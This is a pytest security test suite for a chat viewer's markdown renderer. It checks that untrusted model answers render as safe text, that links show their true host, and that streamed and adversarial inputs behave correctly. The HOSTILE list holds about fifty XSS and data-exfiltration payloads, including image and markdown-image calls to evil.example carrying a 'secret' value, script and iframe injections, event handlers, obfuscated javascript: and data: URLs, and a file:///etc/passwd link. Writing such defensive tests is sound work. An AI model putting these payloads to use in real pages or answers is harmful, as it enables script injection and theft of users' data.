"""The page's markdown: what it shows, what it refuses, and in what time."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from browser_tab import VIEWS, Tab

EVIL = "https://evil.example/?secret"
# hostile answers: none may send a request, run anything, or become an element that could
HOSTILE = [
    f"![x]({EVIL})",
    f"![]({EVIL} 'title')",
    f"![![x]({EVIL})]({EVIL})",
    f"[![x]({EVIL})]({EVIL})",
    f"![x][1]\n\n[1]: {EVIL}",
    f"<img src={EVIL}>",
    f"<img src=x onerror=alert(1) data-x='{EVIL}'>",
    "<script>alert(1)</script>",
    f"<script src={EVIL}></script>",
    f"<iframe src={EVIL}></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    f"<object data={EVIL}></object><embed src={EVIL}>",
    f"<link rel=stylesheet href={EVIL}><style>@import '{EVIL}'</style>",
    f"<base href={EVIL}>",
    f"<form action={EVIL}><input name=x><button>Go</button></form>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<svg onload=alert(1)><image href={EVIL} /></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    f"<video src={EVIL} autoplay onerror=alert(1)></video><audio src={EVIL}>",
    "<details open ontoggle=alert(1)>x</details>",
    f"<a href='{EVIL}' ping='{EVIL}'>x</a>",
    f"<div style=\"background: url('{EVIL}')\">x</div>",
    "<body onload=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example/path)",
    "[x](/v1/models)",
    "[x](?q=1#chat)",
    "[x](view-source:https://evil.example)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x](https://good.example@evil.example/)",
    "[https://good.example](https://evil.example/)",
    "[x](mailto:a@evil.example?body=secret)",
    "[x](mailto:%E0%A4%A)",
    "[x](https://[)",
    '[x](https://evil.example/" onmouseover="alert(1))',
    '[x](https://evil.example/ "title" onclick="alert(1)")',
    "```html\n<script>alert(1)</script>\n```",
    '```" onload="alert(1)\ncode\n```',
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "`<img src=x onerror=alert(1)>`",
    "\u202e[x](https://evil.example/)\u202c",
    "# <img src=x onerror=alert(1)>\n> <script>alert(1)</script>\n- <svg onload=alert(1)>",
    "__proto__ constructor {{constructor.constructor('alert(1)')()}} ${alert(1)}",
]
ALLOWED = set(
    "DIV P PRE CODE H3 H4 H5 H6 HR BLOCKQUOTE OL UL LI TABLE THEAD TBODY TR TH TD "
    "EM STRONG DEL BR SPAN A SMALL".split()
)


def elements(page: Any, texts: list[str]) -> list[list[dict[str, Any]]]:
    """What becomes of each text: its elements and their attributes, in the page."""
    found: list[list[dict[str, Any]]] = page.evaluate(
        """async texts => {
          const { Markdown } = await import('/page/markdown.js');
          return texts.map(text => {
            const { element } = new Markdown(text);
            document.querySelector('main').append(element);
            return [...element.querySelectorAll('*')].map(one => ({
              tag: one.tagName, text: one.textContent,
              attributes: Object.fromEntries([...one.attributes].map(x => [x.name, x.value])),
            }));
          });
        }""",
        texts,
    )
    return found


def html(page: Any, texts: list[str], step: int = 0) -> list[str]:
    """The markup of each text, rendered at once or a few characters at a time."""
    found: list[str] = page.evaluate(
        """async ([texts, step]) => {
          const { Markdown } = await import('/page/markdown.js');
          return texts.map(text => {
            const markdown = new Markdown(step ? '' : text);
            for (let i = 0; step && i < text.length; i += step) markdown.append(text.slice(i, i + step));
            return markdown.element.innerHTML;
          });
        }""",
        [texts, step],
    )
    return found


def test_hostile_answers_are_text(tab: Tab) -> None:
    assert len(HOSTILE) >= 50
    for text, found in zip(HOSTILE, elements(tab.page, HOSTILE), strict=True):
        for one in found:
            assert one["tag"] in ALLOWED, text
            names = set(one["attributes"])
            assert names <= {"href", "target", "rel", "class", "tabindex", "data-language", "scope", "start"}
            if one["tag"] == "A":
                assert one["attributes"]["href"].startswith(("https://", "mailto:")), text
                assert "noopener noreferrer" in one["attributes"]["rel"]
    tab.page.wait_for_timeout(100)  # whatever would be fetched is asked for by now; `tab` has noted it


def test_hostile_answers_in_a_conversation(tab: Tab, tmp_path: Path) -> None:
    file = tmp_path / "hostile.json"
    messages = [{"role": role, "content": text} for text in HOSTILE for role in ("user", "assistant")]
    file.write_text(json.dumps({"messages": messages}))
    tab.page.set_input_files("input[type=file]", file)
    tab.page.wait_for_selector(f".turn:nth-child({len(messages)})")
    assert tab.page.locator(".turn").count() == len(messages)
    assert tab.page.locator("img, script[src*=evil], iframe, object, embed, .turn form").count() == 0
    tab.view(VIEWS[-1])


def test_a_link_says_where_it_goes(tab: Tab) -> None:
    texts = {
        "[good.example](https://evil.example/x)": "good.example (evil.example)",
        "[x](https://good.example@evil.example/)": "x (evil.example)",
        "[x](https://b\u00fccher.example)": "x (xn--bcher-kva.example)",
        "https://good.example/a(b).": "https://good.example/a(b).",
        "看 https://good.example/a，好": "看 https://good.example/a，好",
        "[x](mailto:a@b.example)": "x (a@b.example)",
        "[x](javascript:alert(1))": "x",
    }
    shown = [found[0]["text"] for found in elements(tab.page, list(texts))]
    assert shown == list(texts.values())


SHOWN = {
    "plain *em* **strong** ***both*** ~~del~~ `code`": (
        "<p>plain <em>em</em> <strong>strong</strong> <strong><em>both</em></strong> <del>del</del> "
        "<code>code</code></p>"
    ),
    "2 * 3 * 4, snake_case_name, 5*": "<p>2 * 3 * 4, snake_case_name, 5*</p>",
    "**open *and* never closed": "<p>**open <em>and</em> never closed</p>",
    "*a **b* c**": "<p><em>a **b</em> c**</p>",
    r"\*not\* \`this\`": "<p>*not* `this`</p>",
    "`` a ` b `` and `c": "<p><code>a ` b</code> and `c</p>",
    "a\nb\n\nc  \nd": "<p>a\nb</p><p>c  <br>d</p>",
    "# One\n## Two ##": "<h3>One</h3><h4>Two ##</h4>",
    "> a\n> b\n>\n> > c": "<blockquote><p>a\nb</p><blockquote><p>c</p></blockquote></blockquote>",
    "- a\n- b\n  - c\n- d": "<ul><li>a</li><li>b<ul><li>c</li></ul></li><li>d</li></ul>",
    "3. a\n4. b": '<ol start="3"><li>a</li><li>b</li></ol>',
    "text:\n- a\n- b": "<p>text:</p><ul><li>a</li><li>b</li></ul>",
    "- a\n\n  more\n\n- b": "<ul><li><p>a</p><p>more</p></li><li>b</li></ul>",
    "```py\nx = 1\n\n# no heading\n```\nafter": (
        '<pre tabindex="0"><code data-language="py">x = 1\n\n# no heading</code></pre><p>after</p>'
    ),
    "````\n```\n````": '<pre tabindex="0"><code>```</code></pre>',
    "```\nnever closed": '<pre tabindex="0"><code>never closed</code></pre>',
    "---\n***": "<hr><hr>",
    "a | b\n--|--:\n`x` | 1 \\| 2\n": (
        '<div class="scroll" tabindex="0"><table><thead><tr><th scope="col">a</th>'
        '<th class="end" scope="col">b</th></tr></thead><tbody><tr><td><code>x</code></td>'
        '<td class="end">1 | 2</td></tr></tbody></table></div>'
    ),
    "a | b\nno table": "<p>a | b\nno table</p>",
    "[a](https://x.example/(b)c 'title')": (
        '<p><span><a href="https://x.example/(b)c" target="_blank" rel="noopener noreferrer nofollow">a</a>'
        '<small class="host"> (x.example)</small></span></p>'
    ),
    "[not a link] and [x] (y)": "<p>[not a link] and [x] (y)</p>",
    "中文**加粗**，`代码`。": "<p>中文<strong>加粗</strong>，<code>代码</code>。</p>",
    "&lt; & <b>": "<p>&amp;lt; &amp; &lt;b&gt;</p>",
}


def test_what_markdown_becomes(tab: Tab) -> None:
    assert dict(zip(SHOWN, html(tab.page, list(SHOWN)), strict=True)) == SHOWN


@pytest.mark.parametrize("step", [1, 3, 7])
def test_a_stream_looks_like_the_whole(tab: Tab, step: int) -> None:
    texts = [*SHOWN, "\n\n".join(SHOWN)]
    assert html(tab.page, texts, step) == html(tab.page, texts)


SLOW = [
    *("*[", "[", "![", "*", "**a ", "*a **b ", "_", "`", "`a``", "[a](", "](", "[a](b", "<http", "http://"),
    *("~~a", "> ", "- ", "  - ", "1. ", "#", "# ", "|", "|-", "\\", "\n", " \n", "a\n", "```\n", "````"),
    *("a `", " ", "((", "[](" + " " * 1990 + ")", "| a |\n|---|\n| b |\n", "http://a......", "[a]", "*a* "),
    *("-\n", "---", "* * * x"),
]


def test_no_text_takes_long(tab: Tab) -> None:
    """100 kB each, in a moment or two; on a busy machine the best of three attempts counts."""
    script = """async units => {
      const { Markdown } = await import('/page/markdown.js');
      return units.map(unit => {
        const text = unit.repeat(Math.ceil(1e5 / unit.length));
        const begin = performance.now();
        new Markdown(text + ' x');
        return (performance.now() - begin) / 1000;
      });
    }"""
    slow = SLOW
    for _ in range(3):
        seconds = tab.page.evaluate(script, slow)
        slow = [unit for unit, second in zip(slow, seconds, strict=True) if second > 1.5]
    assert not slow


def test_nothing_nests_without_end(tab: Tab) -> None:
    texts = [
        "> " * 500 + "x",
        "\n".join("  " * i + "- x" for i in range(200)),
        "**a *b " * 500 + "c* d**" * 500,
    ]
    depth = tab.page.evaluate(
        """async texts => {
          const { Markdown } = await import('/page/markdown.js');
          const depth = node => 1 + Math.max(0, ...[...node.children].map(depth));
          return texts.map(text => depth(new Markdown(text).element));
        }""",
        texts,
    )
    assert max(depth) < 80
